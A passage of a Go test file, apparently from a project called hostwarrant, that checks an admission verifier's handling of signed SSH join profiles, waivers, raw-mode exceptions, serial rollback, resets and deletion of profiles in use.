package verify_test

import (
	"encoding/json"
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/hostwarrant/hostwarrant/internal/decision"
	"github.com/hostwarrant/hostwarrant/internal/ledger"
	"github.com/hostwarrant/hostwarrant/internal/object"
	"github.com/hostwarrant/hostwarrant/internal/script"
	"github.com/hostwarrant/hostwarrant/internal/verify"
	"github.com/hostwarrant/hostwarrant/internal/warrant"
	"github.com/hostwarrant/hostwarrant/testkit"
)

type tree = map[string]any

// marks is a ledger of the tests.
type marks struct {
	of      map[string]ledger.Mark
	slots   map[ledger.Slot]ledger.SlotMark
	bundles []string // "<namespace>/<name>"
	used    []string
}

func (m marks) Mark(profile string) (ledger.Mark, bool) { v, ok := m.of[profile]; return v, ok }

func (m marks) Slot(slot ledger.Slot) (ledger.SlotMark, bool) { v, ok := m.slots[slot]; return v, ok }

func (m marks) Bundle(namespace, name string) bool {
	return slices.Contains(m.bundles, namespace+"/"+name)
}
func (m marks) ResetUsed(id string) bool { return slices.Contains(m.used, id) }

// court is a policy in force, what signs for it, and what is known beside it.
type court struct {
	t            *testing.T
	root, signer testkit.Signer
	author
	held *verify.Held
	s    verify.Snapshot
}

func newCourt(t *testing.T) *court {
	t.Helper()
	signer := testkit.NewSigner(t, "ed25519")
	c := &court{t: t, root: testkit.NewSigner(t, "ed25519"), signer: signer, author: author{signer, t, true}, held: &verify.Held{}}
	c.s = verify.Snapshot{Now: testkit.Now(), ClusterID: "any", Stored: c.held}
	c.policy(testkit.PolicyDocument(signer))
	return c
}

func (c *court) policy(document string) { c.s.Policy = testkit.Policy(c.t, document, c.root) }

// with puts the policy in force with more text at its end.
func (c *court) with(more string) { c.policy(testkit.PolicyDocument(c.signer) + more) }

// inside changes a part of the policy.
func (c *court) inside(old, new string) {
	c.t.Helper()
	document := testkit.PolicyDocument(c.signer)
	if !strings.Contains(document, old) {
		c.t.Fatalf("no %q in the policy", old)
	}
	c.policy(strings.Replace(document, old, new, 1))
}

func (c *court) warn() { c.inside("mode: enforce", "mode: warn\nwarnUntil: \"2026-12-10T00:00:00Z\"") }

func encode(t *testing.T, o any) []byte {
	t.Helper()
	raw, err := json.Marshal(o)
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

func profileTree(p *object.JoinProfile) tree {
	spec := tree{"version": p.Version, "scripts": p.Scripts}
	if p.Version == "" {
		delete(spec, "version")
	}
	if len(p.Signatures) > 0 {
		spec["signatures"] = p.Signatures
	}
	return tree{"apiVersion": object.GroupKPSSH + "/v1beta1", "kind": object.KindJoinProfile, "metadata": tree{"name": p.Name}, "spec": spec}
}

// serial is a signed profile with warrants of that serial.
func (c *court) serial(n int64) *object.JoinProfile {
	v := newVersion()
	for _, w := range v.warrants {
		w.Serial = n
	}
	p := v.signed(c.author)
	p.Version = fmt.Sprint(n)
	return p
}

func (c *court) hostTree() tree {
	return tree{
		"apiVersion": object.GroupKPSSH + "/v1beta1", "kind": object.KindHost, "metadata": tree{"name": "a", "namespace": "pool"},
		"spec": tree{"address": "10.0.0.1", "user": "kpssh", "execMode": "Verified", "trustedSigners": []string{c.signer.Line}},
	}
}

func classTree(spec tree) tree {
	all := tree{"joinProfileRef": tree{"name": "tls"}}
	maps.Copy(all, spec)
	return tree{"apiVersion": object.GroupKPSSH + "/v1beta1", "kind": object.KindNodeClass, "metadata": tree{"name": "pool"}, "spec": all}
}

func runTree(namespace string, spec tree) tree {
	all := tree{"hostRef": tree{"name": "a"}, "profileRef": tree{"name": "tls"}, "phase": "join", "nodeName": "pool-1"}
	maps.Copy(all, spec)
	return tree{"apiVersion": object.GroupHostwarrant + "/v1alpha1", "kind": object.KindHostRun, "metadata": tree{"name": "run", "namespace": namespace}, "spec": all}
}

// partOf is an object inside another, empty where there is none.
func partOf(o tree, name string) tree {
	if part, ok := o[name].(tree); ok {
		return part
	}
	return tree{}
}

// textOf is a text field, empty where there is none.
func textOf(o tree, name string) string {
	if text, ok := o[name].(string); ok {
		return text
	}
	return ""
}

// set returns a copy with one field of a part set, or removed where the value is nil.
func set(o tree, part, name string, value any) tree {
	inner := maps.Clone(partOf(o, part))
	inner[name] = value
	if value == nil {
		delete(inner, name)
	}
	o = maps.Clone(o)
	o[part] = inner
	return o
}

func request(t *testing.T, op verify.Operation, o, old tree) verify.Request {
	t.Helper()
	named := o
	if o == nil {
		named = old
	}
	meta := partOf(named, "metadata")
	r := verify.Request{Operation: op, Kind: textOf(named, "kind"), Name: textOf(meta, "name"), Namespace: textOf(meta, "namespace")}
	if o != nil {
		r.Object = encode(t, o)
	}
	if old != nil {
		r.Old = encode(t, old)
	}
	return r
}

func (c *court) create(o tree) verify.Answer {
	return verify.Admission(c.s, request(c.t, verify.Create, o, nil))
}

func (c *court) update(old, o tree) verify.Answer {
	return verify.Admission(c.s, request(c.t, verify.Update, o, old))
}

func (c *court) remove(old tree) verify.Answer {
	return verify.Admission(c.s, request(c.t, verify.Delete, nil, old))
}

func wantAnswer(t *testing.T, a verify.Answer, outcome verify.Outcome, reason decision.Reason) {
	t.Helper()
	if a.Outcome != outcome || a.Decision.Reason != reason || a.Admits() != (outcome != verify.OutcomeDeny) {
		t.Fatalf("got %s (%s), want %s with %s", a.Outcome, a.Decision.Message(), outcome, reason)
	}
	if !a.Decision.Allowed() && a.Decision.Hint == "" {
		t.Errorf("%q has no hint", a.Decision.Message())
	}
	if outcome == verify.OutcomeWaive != (a.Decision.Reason == decision.Waived || a.Decision.Reason == decision.Unguarded) {
		t.Errorf("%s with %s", outcome, a.Decision.Reason)
	}
	for _, w := range a.Decision.Warnings {
		if len(w) > 255 {
			t.Errorf("a warning of %d bytes", len(w))
		}
	}
}

const (
	allow = verify.OutcomeAllow
	deny  = verify.OutcomeDeny
	warn  = verify.OutcomeWarn
	waive = verify.OutcomeWaive
)

func TestAdmissionRefusesWhatNoRuleJudges(t *testing.T) {
	c := newCourt(t)
	good := request(t, verify.Create, c.hostTree(), nil)
	wantAnswer(t, verify.Admission(c.s, good), allow, decision.Verified)
	for name, change := range map[string]func(*verify.Request){
		"another kind":         func(r *verify.Request) { r.Kind = "Secret" },
		"TrustPolicy":          func(r *verify.Request) { r.Kind = object.KindTrustPolicy },
		"a kind in other case": func(r *verify.Request) { r.Kind = "sshhost" },
		"no kind":              func(r *verify.Request) { r.Kind = "" },
		"CONNECT":              func(r *verify.Request) { r.Operation = "CONNECT" },
		"no operation":         func(r *verify.Request) { r.Operation = "" },
		"a kind of their group": func(r *verify.Request) {
			r.Object = encode(t, tree{"apiVersion": "example.com/v1", "kind": "SSHHost", "metadata": tree{"name": "a", "namespace": "pool"}, "spec": tree{}})
		},
	} {
		for _, mode := range []string{"enforce", "warn"} {
			if c = newCourt(t); mode == "warn" {
				c.warn()
			}
			t.Run(name+", mode "+mode, func(t *testing.T) {
				r := good
				change(&r)
				wantAnswer(t, verify.Admission(c.s, r), deny, decision.KindMismatch)
			})
		}
	}
}

func TestAdmissionNeitherExemptsNorDeletesWhatItDoesNotJudge(t *testing.T) {
	c := newCourt(t)
	secret := tree{"apiVersion": "v1", "kind": "Secret", "metadata": tree{"name": "a"}, "spec": tree{}}
	policy := tree{"apiVersion": "hostwarrant.dev/v1alpha1", "kind": "TrustPolicy", "metadata": tree{"name": "cluster"}, "spec": tree{"document": "x"}}
	wantAnswer(t, c.remove(secret), deny, decision.KindMismatch)
	wantAnswer(t, c.remove(policy), deny, decision.KindMismatch)
	wantAnswer(t, c.update(policy, policy), deny, decision.KindMismatch)
	wantAnswer(t, c.remove(c.hostTree()), allow, decision.Verified)
	wantAnswer(t, c.update(c.hostTree(), c.hostTree()), verify.OutcomeExempt, "")
}

func TestAdmissionWantsTheObjectThatTheRequestNames(t *testing.T) {
	c := newCourt(t)
	for name, change := range map[string]func(*verify.Request){
		"another name":      func(r *verify.Request) { r.Name = "b" },
		"another namespace": func(r *verify.Request) { r.Namespace = "default" },
		"no JSON":           func(r *verify.Request) { r.Object = []byte("{") },
		"no object":         func(r *verify.Request) { r.Object = nil },
	} {
		t.Run(name, func(t *testing.T) {
			r := request(t, verify.Create, c.hostTree(), nil)
			change(&r)
			wantAnswer(t, verify.Admission(c.s, r), deny, decision.Malformed)
		})
	}
	r := request(t, verify.Create, c.hostTree(), nil)
	r.Name = "" // generateName
	wantAnswer(t, verify.Admission(c.s, r), allow, decision.Verified)
}

func TestAdmissionAnswersTheCanaryInAnyMode(t *testing.T) {
	name := "hostwarrant-canary-0123456789abcdef"
	objects := func(c *court, name string) []tree {
		p := c.serial(42)
		return []tree{
			set(profileTree(p), "metadata", "name", name), set(c.hostTree(), "metadata", "name", name),
			set(classTree(nil), "metadata", "name", name), set(runTree("pool", nil), "metadata", "name", name),
		}
	}
	for mode, arrange := range map[string]func(*court){
		"enforce": func(*court) {}, "warn": (*court).warn,
		"no policy": func(c *court) { c.s.Policy = nil }, "nothing known": func(c *court) { c.s.Stored = nil },
	} {
		c := newCourt(t)
		arrange(c)
		for _, o := range objects(c, name) {
			t.Run(fmt.Sprint(mode, " ", o["kind"]), func(t *testing.T) {
				a := c.create(o)
				wantAnswer(t, a, deny, decision.Canary)
				if !strings.Contains(a.Decision.Message(), "0123456789abcdef") {
					t.Errorf("%q does not say the nonce", a.Decision.Message())
				}
			})
		}
	}
	c := newCourt(t)
	for _, near := range []string{"hostwarrant-canary-0123456789abcde", "hostwarrant-canary-0123456789abcdeg", "x" + name, name + "0"} {
		wantAnswer(t, c.create(set(c.hostTree(), "metadata", "name", near)), allow, decision.Verified)
	}
	wantAnswer(t, c.remove(set(c.hostTree(), "metadata", "name", name)), allow, decision.Verified)
}

func TestAdmissionExemptsOnlyWhatLeavesGuardedContentAlone(t *testing.T) {
	c := newCourt(t)
	unsigned := profileTree(c.author.profile("tls"))
	unsigned = set(unsigned, "spec", "signatures", nil)
	labelled := set(unsigned, "metadata", "labels", tree{"a": "b"})
	wantAnswer(t, c.update(unsigned, labelled), verify.OutcomeExempt, "")
	wantAnswer(t, c.update(tree{"spec": 3}, labelled), deny, decision.Unsigned)
	c.s.Policy = nil
	wantAnswer(t, c.update(unsigned, labelled), verify.OutcomeExempt, "")
	run := runTree("elsewhere", nil)
	wantAnswer(t, c.update(run, set(run, "spec", "cancel", true)), verify.OutcomeExempt, "")
	wantAnswer(t, c.update(run, set(run, "spec", "nodeName", "other")), deny, decision.PolicyUnavailable)
}

func TestModeWarnSoftensWhatWasJudged(t *testing.T) {
	c := newCourt(t)
	unsigned := set(profileTree(c.author.profile("tls")), "spec", "signatures", nil)
	wantAnswer(t, c.create(unsigned), deny, decision.Unsigned)
	c.warn()
	wantAnswer(t, c.create(unsigned), warn, decision.Unsigned)
	wantAnswer(t, c.create(set(c.hostTree(), "spec", "execMode", "Raw")), warn, decision.RawRefused)
	wantAnswer(t, c.create(runTree("elsewhere", nil)), warn, decision.NamespaceRefused)

	late := c.s
	late.Now = c.s.Policy.WarnUntil()
	wantAnswer(t, verify.Admission(late, request(t, verify.Create, unsigned, nil)), deny, decision.Unsigned)
	late.Now = c.s.Policy.Expires
	wantAnswer(t, verify.Admission(late, request(t, verify.Create, unsigned, nil)), deny, decision.PolicyExpired)
	c.s.Stored = nil
	wantAnswer(t, c.create(runTree("pool", nil)), deny, decision.SnapshotUnavailable)
	wantAnswer(t, c.create(classTree(nil)), deny, decision.SnapshotUnavailable)
	c.s.Policy = nil
	wantAnswer(t, c.create(unsigned), deny, decision.PolicyUnavailable)
}

func TestWaiverTakesOneContentUntilADate(t *testing.T) {
	c := newCourt(t)
	host := set(c.hostTree(), "spec", "user", "root")
	digestOf := func(o tree) string {
		digest, err := object.ContentDigest(encode(t, o))
		if err != nil {
			t.Fatal(err)
		}
		return digest
	}
	waiver := func(kind, name, digest, expires string) string {
		return fmt.Sprintf("waivers: [{kind: %s, name: %s, digest: %q, expires: %q, reason: the vendor mends it}]\n", kind, name, digest, expires)
	}
	const later, now = "2026-12-10T00:00:00Z", "2026-11-30T12:00:00Z"
	for name, tt := range map[string]struct {
		text string
		host tree
		want verify.Outcome
	}{
		"this content":         {waiver("SSHHost", "a", digestOf(host), later), host, waive},
		"with a label":         {waiver("SSHHost", "a", digestOf(host), later), set(host, "metadata", "annotations", tree{"x": "y"}), waive},
		"the default said":     {waiver("SSHHost", "a", digestOf(host), later), set(host, "spec", "port", 22), waive},
		"over":                 {waiver("SSHHost", "a", digestOf(host), now), host, deny},
		"another content":      {waiver("SSHHost", "a", digestOf(host), later), set(host, "spec", "address", "10.0.0.2"), deny},
		"another namespace":    {waiver("SSHHost", "a", digestOf(host), later), set(host, "metadata", "namespace", "default"), deny},
		"another name":         {waiver("SSHHost", "b", digestOf(host), later), host, deny},
		"another kind":         {waiver("SSHNodeClass", "a", digestOf(host), later), host, deny},
		"another host's class": {waiver("SSHHost", "a", digestOf(host), later), set(host, "metadata", "labels", tree{object.HostClassLabel: "small"}), deny},
	} {
		t.Run(name, func(t *testing.T) {
			c.with(tt.text)
			a := c.create(tt.host)
			if tt.want == deny {
				wantAnswer(t, a, deny, decision.UserRefused)
				return
			}
			wantAnswer(t, a, waive, decision.Waived)
			if len(a.Decision.Warnings) != 1 || !strings.Contains(a.Decision.Warnings[0], "the vendor mends it") || !strings.Contains(a.Decision.Warnings[0], later) {
				t.Errorf("warnings %q", a.Decision.Warnings)
			}
		})
	}
	// What cannot be judged is not waived.
	c.with(waiver("SSHHost", "a", digestOf(host), "2027-12-10T00:00:00Z"))
	c.s.Now = c.s.Policy.Expires
	wantAnswer(t, c.create(host), deny, decision.PolicyExpired)
}

func TestUnguardedProfilesNeedNoSignatureUntilADate(t *testing.T) {
	c := newCourt(t)
	plain := c.author.profile("tls")
	clear(plain.Signatures)
	half := c.author.profile("tls")
	delete(half.Signatures, script.Leave)
	list := func(pattern, until string) {
		c.inside("  thresholds: {}", fmt.Sprintf("  thresholds: {}\n  unguarded: [{profiles: [%q], until: %q}]", pattern, until))
	}
	list("tl*", "2026-12-10T00:00:00Z")
	a := c.create(profileTree(plain))
	wantAnswer(t, a, waive, decision.Unguarded)
	if len(a.Decision.Warnings) != 1 || !strings.Contains(a.Decision.Warnings[0], "2026-12-10T00:00:00Z") {
		t.Errorf("warnings %q", a.Decision.Warnings)
	}
	wantAnswer(t, c.create(profileTree(half)), deny, decision.Unsigned)
	wantAnswer(t, c.create(profileTree(c.author.profile("tls"))), allow, decision.Verified)
	if _, ok := verify.Recordable(c.s, plain); ok {
		t.Error("the ledger would remember it")
	}
	c.s.Ledger = marks{of: map[string]ledger.Mark{"tls": {Serial: 1}}}
	wantAnswer(t, c.create(profileTree(plain)), deny, decision.Unsigned)
	c.s.Ledger = marks{of: map[string]ledger.Mark{"web": {Serial: 1}}}
	wantAnswer(t, c.create(profileTree(plain)), waive, decision.Unguarded)
	list("tl*", "2026-11-30T12:00:00Z")
	wantAnswer(t, c.create(profileTree(plain)), deny, decision.Unsigned)
	list("web", "2026-12-10T00:00:00Z")
	wantAnswer(t, c.create(profileTree(plain)), deny, decision.Unsigned)
	c.s.Now = c.s.Policy.Expires
	wantAnswer(t, c.create(profileTree(plain)), deny, decision.PolicyExpired)
}

// Of a signed version whose serial is not remembered, or that has none, nothing but the stored object tells.
func TestUnguardedTakesNoSignedProfilesPlace(t *testing.T) {
	c := newCourt(t)
	c.inside("  thresholds: {}", "  thresholds: {}\n  unguarded: [{profiles: [tls], until: \"2026-12-10T00:00:00Z\"}]")
	c.s.Ledger = marks{}
	plain := func(o tree) tree {
		return set(set(o, "spec", "signatures", nil), "spec", "scripts", tree{"install": "echo 1\n", "join": "echo 2\n", "leave": "echo 3\n"})
	}
	short := newVersion()
	for _, phase := range []script.Phase{script.Install, script.Join} {
		short.warrants[phase].NotAfter = testkit.Now().Add(-time.Hour).Unix()
	}
	bare(short)
	foreign := author{testkit.NewSigner(t, "ed25519"), t, true}
	for name, tt := range map[string]struct {
		old    tree
		reason decision.Reason
	}{
		"with a serial":               {profileTree(c.serial(5)), decision.Unsigned},
		"with one that no ledger has": {profileTree(c.serial(1_000_001)), decision.Unsigned},
		"without a serial":            {profileTree(c.author.profile("tls")), decision.Unsigned},
		"that has expired since":      {profileTree(short.signed(c.author)), decision.Unsigned},
		"signed by nobody we know":    {profileTree(foreign.profile("tls")), decision.Unguarded},
		"that is not signed":          {set(profileTree(c.serial(5)), "spec", "signatures", nil), decision.Unguarded},
		"that cannot be read":         {tree{"spec": 3}, decision.Unguarded},
	} {
		t.Run(name, func(t *testing.T) {
			outcome := deny
			if tt.reason == decision.Unguarded {
				outcome = waive
			}
			wantAnswer(t, c.update(tt.old, plain(profileTree(c.serial(5)))), outcome, tt.reason)
		})
	}
}

// What a waiver let in hides no version that is remembered.
func TestAfterAWaiverTheLedgerStillJudges(t *testing.T) {
	c := newCourt(t)
	five, six, seven := c.serial(5), c.serial(6), c.serial(7)
	plain := set(profileTree(six), "spec", "signatures", nil)
	digest, err := object.ContentDigest(encode(t, plain))
	if err != nil {
		t.Fatal(err)
	}
	c.with(fmt.Sprintf("waivers: [{kind: SSHJoinProfile, name: tls, digest: %q, expires: \"2026-12-10T00:00:00Z\", reason: the vendor mends it}]\n", digest))
	c.s.Ledger = marks{of: map[string]ledger.Mark{"tls": {Serial: 6, Digest: six.Digest()}}}
	wantAnswer(t, c.update(profileTree(six), plain), waive, decision.Waived)
	wantAnswer(t, c.update(plain, profileTree(five)), deny, decision.SerialRollback)
	wantAnswer(t, c.update(plain, profileTree(seven)), allow, decision.Verified)
}

func TestAProfileWhoseNameNoLedgerTakes(t *testing.T) {
	c := newCourt(t)
	longest := strings.Repeat("a", 245)
	longer := longest + "a"
	signed := func(name string) tree { return profileTree(c.author.profile(name)) }
	c.s.Ledger = marks{}
	a := c.create(signed(longer))
	wantAnswer(t, a, deny, decision.Malformed)
	if a.Decision.Where != "metadata.name" || !strings.Contains(a.Decision.Hint, "shorter name") {
		t.Errorf("got %s at %q", a.Decision.Message(), a.Decision.Where)
	}
	wantAnswer(t, c.create(signed(longest)), allow, decision.Verified)
	wantAnswer(t, c.remove(signed(longer)), allow, decision.Verified)
	c.s.Ledger = nil // offline nobody keeps one
	wantAnswer(t, c.create(signed(longer)), allow, decision.Verified)
}

func TestHostsMayBeRawUntilADate(t *testing.T) {
	c := newCourt(t)
	raw := set(set(c.hostTree(), "spec", "execMode", "Raw"), "spec", "trustedSigners", nil)
	list := func(host, until string) {
		c.inside("    users: [kpssh]", fmt.Sprintf("    raw: [{host: %s, until: %q}]\n    users: [kpssh]", host, until))
	}
	wantAnswer(t, c.create(raw), deny, decision.RawRefused)
	list("pool/a", "2026-12-10T00:00:00Z")
	stranger := testkit.NewSigner(t, "ed25519")
	for name, tt := range map[string]struct {
		old, host tree
		outcome   verify.Outcome
		reason    decision.Reason
	}{
		"a new one":                   {nil, raw, waive, decision.Unguarded},
		"Raw before":                  {set(raw, "spec", "address", "10.0.0.9"), raw, waive, decision.Unguarded},
		"execMode left out":           {nil, set(raw, "spec", "execMode", nil), waive, decision.Unguarded},
		"Verified":                    {raw, c.hostTree(), allow, decision.Verified},
		"Verified before":             {c.hostTree(), raw, deny, decision.ModeDowngrade},
		"unreadable before":           {tree{"spec": 3}, raw, deny, decision.ModeDowngrade},
		"another mode":                {nil, set(raw, "spec", "execMode", "raw"), deny, decision.RawRefused},
		"another host":                {nil, set(raw, "metadata", "name", "b"), deny, decision.RawRefused},
		"of its name elsewhere":       {nil, set(raw, "metadata", "namespace", "default"), deny, decision.RawRefused},
		"another user":                {nil, set(raw, "spec", "user", "root"), deny, decision.UserRefused},
		"a class of another pool":     {nil, set(raw, "metadata", "labels", tree{object.HostClassLabel: "gpu"}), deny, decision.HostClassRefused},
		"with a foreign signer":       {nil, set(raw, "spec", "trustedSigners", []string{stranger.Line}), deny, decision.SignersNotInPolicy},
		"with a signer of the policy": {nil, set(raw, "spec", "trustedSigners", []string{c.signer.Line}), waive, decision.Unguarded},
	} {
		t.Run(name, func(t *testing.T) {
			if tt.old == nil {
				wantAnswer(t, c.create(tt.host), tt.outcome, tt.reason)
			} else {
				wantAnswer(t, c.update(tt.old, tt.host), tt.outcome, tt.reason)
			}
		})
	}
	a := c.create(raw)
	if len(a.Decision.Warnings) != 1 || !strings.Contains(a.Decision.Warnings[0], "2026-12-10T00:00:00Z") {
		t.Errorf("warnings %q", a.Decision.Warnings)
	}
	h, err := object.ParseHost(encode(t, raw))
	if err != nil {
		t.Fatal(err)
	}
	wantDecision(t, verify.Host(c.s, h, nil), decision.RawRefused, "spec.execMode") // the relay knows no exception
	list("pool/a", "2026-11-30T12:00:00Z")
	wantAnswer(t, c.create(raw), deny, decision.RawRefused)
}

func TestHostsStandWhereThePolicyAllows(t *testing.T) {
	c := newCourt(t)
	labelled := func(class string) tree {
		return set(c.hostTree(), "metadata", "labels", tree{object.HostClassLabel: class})
	}
	wantAnswer(t, c.create(c.hostTree()), allow, decision.Verified)
	wantAnswer(t, c.create(labelled("small")), allow, decision.Verified)
	wantAnswer(t, c.create(labelled("gpu")), deny, decision.HostClassRefused)
	wantAnswer(t, c.update(labelled("small"), labelled("gpu")), deny, decision.HostClassRefused)
	wantAnswer(t, c.create(set(c.hostTree(), "metadata", "namespace", "tenant")), deny, decision.NamespaceRefused)
	c.inside("classes: [default, small, large, bm], nodeNames: [\"*\"]}\n      pool: {classes: [default, ", "classes: [default], nodeNames: [\"*\"]}\n      pool: {classes: [")
	wantAnswer(t, c.create(c.hostTree()), deny, decision.HostClassRefused)
	before, rest, _ := strings.Cut(testkit.PolicyDocument(c.signer), "    namespaces:")
	_, after, _ := strings.Cut(rest, "  thresholds:")
	c.policy(before + "  thresholds:" + after)
	wantAnswer(t, c.create(c.hostTree()), deny, decision.NamespaceRefused)
}

func TestSerialsOnlyRise(t *testing.T) {
	c := newCourt(t)
	at := func(n int64) *object.JoinProfile { return c.serial(n) }
	other := func(n int64) *object.JoinProfile {
		v := newVersion()
		v.body = "#!/bin/bash\necho other\n"
		for _, w := range v.warrants {
			w.Serial = n
		}
		p := v.signed(c.author)
		p.Version = fmt.Sprint(n)
		return p
	}
	mark := func(p *object.JoinProfile, n int64) ledger.Mark { return ledger.Mark{Serial: n, Digest: p.Digest()} }
	five := at(5)
	bare := c.author.profile("tls")
	unsigned := at(900)
	clear(unsigned.Signatures)
	for name, tt := range map[string]struct {
		mark   *ledger.Mark
		floors string
		old, p *object.JoinProfile
		want   decision.Reason
	}{
		"the next":                            {&ledger.Mark{Serial: 5}, "", nil, at(6), decision.Verified},
		"the same again":                      {ptr(mark(five, 5)), "", nil, five, decision.Verified},
		"a lower one":                         {ptr(mark(five, 5)), "", nil, at(4), decision.SerialRollback},
		"the same serial, other scripts":      {ptr(mark(five, 5)), "", nil, other(5), decision.SerialReused},
		"a step of 1000":                      {ptr(mark(five, 5)), "", nil, at(1005), decision.Verified},
		"a step of 1001":                      {ptr(mark(five, 5)), "", nil, at(1006), decision.SerialJump},
		"1000 above a floor that names it":    {ptr(mark(five, 5)), "floors: {tls: 2000}\n", nil, at(3000), decision.Verified},
		"1001 above a floor that names it":    {ptr(mark(five, 5)), "floors: {tls: 2000}\n", nil, at(3001), decision.SerialJump},
		"above a floor of a pattern":          {ptr(mark(five, 5)), "floors: {\"t*\": 2000}\n", nil, at(2001), decision.SerialJump},
		"the first":                           {nil, "", nil, at(1_000_000), decision.Verified},
		"the first too high":                  {nil, "", nil, at(1_000_001), decision.SerialJump},
		"the first, named by a floor":         {nil, "floors: {tls: 2000000}\n", nil, at(2_001_000), decision.Verified},
		"the first, far above its floor":      {nil, "floors: {tls: 5}\n", nil, at(1006), decision.SerialJump},
		"the last number":                     {nil, "", nil, at(999_999_999_999_999), decision.SerialJump},
		"no serial any more":                  {ptr(mark(five, 5)), "", nil, bare, decision.SerialRollback},
		"no serial yet":                       {nil, "", nil, bare, decision.Verified},
		"below the stored one":                {nil, "", five, at(4), decision.SerialRollback},
		"the stored one's, other scripts":     {nil, "", five, other(5), decision.SerialReused},
		"above the stored one":                {nil, "", five, at(6), decision.Verified},
		"the stored one had a serial":         {nil, "", five, bare, decision.SerialRollback},
		"below a stored one nobody signed":    {ptr(mark(five, 5)), "", unsigned, at(6), decision.Verified},
		"below a stored one no ledger takes":  {ptr(mark(five, 5)), "", at(2000), at(6), decision.Verified},
		"below a stored one of no serial":     {nil, "", bare, at(1), decision.Verified},
		"below a stored one the ledger takes": {ptr(mark(five, 5)), "", at(1000), at(6), decision.SerialRollback},
	} {
		t.Run(name, func(t *testing.T) {
			c.with(tt.floors)
			m := marks{of: map[string]ledger.Mark{}}
			if tt.mark != nil {
				m.of["tls"] = *tt.mark
			}
			c.s.Ledger = m
			outcome := deny
			if tt.want == decision.Verified {
				outcome = allow
			}
			if tt.old == nil {
				wantAnswer(t, c.create(profileTree(tt.p)), outcome, tt.want)
				v, ok := verify.Recordable(c.s, tt.p)
				if ok != (tt.want == decision.Verified && tt.p != bare) || ok && fmt.Sprint(v.Serial) != tt.p.Version {
					t.Errorf("recordable: %v %v", v, ok)
				}
				return
			}
			wantAnswer(t, c.update(profileTree(tt.old), profileTree(tt.p)), outcome, tt.want)
		})
	}
	t.Run("nobody keeps a ledger", func(t *testing.T) {
		c.with("")
		c.s.Ledger = nil
		wantAnswer(t, c.create(profileTree(at(999_999_999_999_999))), allow, decision.Verified)
	})
	t.Run("the stored one has expired since", func(t *testing.T) {
		v := newVersion()
		for _, phase := range []script.Phase{script.Install, script.Join} {
			v.warrants[phase].NotAfter = testkit.Now().Add(time.Hour).Unix()
		}
		old := v.signed(c.author)
		c.s.Ledger = marks{}
		c.s.Now = testkit.Now().Add(2 * time.Hour)
		wantAnswer(t, c.update(profileTree(old), profileTree(at(41))), deny, decision.SerialRollback)
		wantAnswer(t, c.update(profileTree(old), profileTree(at(43))), allow, decision.Verified)
	})
}

func ptr[T any](v T) *T { return &v }

func TestAResetLetsOneVersionInOnce(t *testing.T) {
	c := newCourt(t)
	old, next := c.serial(4), c.serial(6)
	reset := func(p *object.JoinProfile, serial int) {
		c.with(fmt.Sprintf("resets: [{profile: tls, serial: %d, digest: %q}]\n", serial, p.Digest()))
	}
	lowered := marks{of: map[string]ledger.Mark{"tls": {Serial: 6, Digest: next.Digest()}}}
	c.s.Ledger = lowered
	wantAnswer(t, c.create(profileTree(old)), deny, decision.SerialRollback)
	reset(old, 4)
	wantAnswer(t, c.create(profileTree(old)), allow, decision.Verified)
	wantAnswer(t, c.update(profileTree(next), profileTree(old)), allow, decision.Verified)
	if v, ok := verify.Recordable(c.s, old); !ok || v.Serial != 4 {
		t.Errorf("recordable: %v %v", v, ok)
	}
	wantAnswer(t, c.create(profileTree(c.serial(3))), deny, decision.SerialRollback)
	reset(next, 4)
	wantAnswer(t, c.create(profileTree(old)), deny, decision.SerialRollback)
	reset(old, 4)
	r := c.s.Policy.Resets[0]
	lowered.used = []string{r.ID()}
	c.s.Ledger = lowered
	wantAnswer(t, c.create(profileTree(old)), deny, decision.SerialRollback)
	if want := digest("tls\n4\n" + old.Digest()); r.ID() != want {
		t.Errorf("id %s, not %s", r.ID(), want)
	}
}

func TestDeletion(t *testing.T) {
	c := newCourt(t)
	p := c.serial(5)
	signed := profileTree(p)
	unsigned := set(signed, "spec", "signatures", nil)
	remembered := marks{of: map[string]ledger.Mark{"tls": {Serial: 5, Digest: p.Digest()}}}
	installed := func(what string) {
		c.held.AllHosts = []*object.Host{{Meta: object.Meta{Namespace: "pool", Name: "a"}, InstalledProfile: what}}
	}
	run := func(profile string, finished bool) {
		c.held.AllHosts = []*object.Host{{Meta: object.Meta{Namespace: "pool", Name: "a"}}}
		c.held.Runs = []*object.HostRun{{Meta: object.Meta{Namespace: "pool", Name: "r"}, Host: "a", Profile: profile, Finished: finished}}
	}
	for name, tt := range map[string]struct {
		arrange func()
		o       tree
		want    decision.Reason
	}{
		"not in use":                     {func() {}, signed, decision.Verified},
		"installed":                      {func() { installed("tls@4") }, signed, decision.InUse},
		"another is installed":           {func() { installed("tls-2@4") }, signed, decision.Verified},
		"installed, and unsigned":        {func() { installed("tls@4") }, unsigned, decision.Verified},
		"a run":                          {func() { run("tls", false) }, signed, decision.InUse},
		"a run that is over":             {func() { run("tls", true) }, signed, decision.Verified},
		"a run of another":               {func() { run("web", false) }, signed, decision.Verified},
		"not remembered":                 {func() { c.s.Ledger = marks{} }, signed, decision.LedgerPending},
		"an older one remembered":        {func() { c.s.Ledger = marks{of: map[string]ledger.Mark{"tls": {Serial: 4}}} }, signed, decision.LedgerPending},
		"a newer one remembered":         {func() { c.s.Ledger = marks{of: map[string]ledger.Mark{"tls": {Serial: 6}}} }, signed, decision.Verified},
		"not remembered, unsigned":       {func() { c.s.Ledger = marks{} }, unsigned, decision.Verified},
		"not remembered, and expired":    {func() { c.s.Ledger = marks{}; c.s.Now = c.s.Now.AddDate(0, 4, 0) }, signed, decision.Verified},
		"not remembered, no serial":      {func() { c.s.Ledger = marks{} }, profileTree(c.author.profile("tls")), decision.Verified},
		"nobody keeps a ledger":          {func() { c.s.Ledger = nil }, signed, decision.Verified},
		"cannot be read":                 {func() { installed("tls@4") }, tree{"kind": object.KindJoinProfile, "metadata": tree{"name": "tls"}}, decision.Verified},
		"no policy":                      {func() { c.s.Policy = nil }, signed, decision.PolicyUnavailable},
		"the policy has expired":         {func() { installed("tls@4"); c.s.Now = c.s.Policy.Expires }, signed, decision.Verified},
		"nothing known":                  {func() { c.s.Stored = nil }, signed, decision.SnapshotUnavailable},
		"a host":                         {func() {}, c.hostTree(), decision.Verified},
		"a node class, without a policy": {func() { c.s.Policy = nil }, classTree(nil), decision.Verified},
		"a run, without a policy":        {func() { c.s.Policy = nil }, runTree("pool", nil), decision.Verified},
	} {
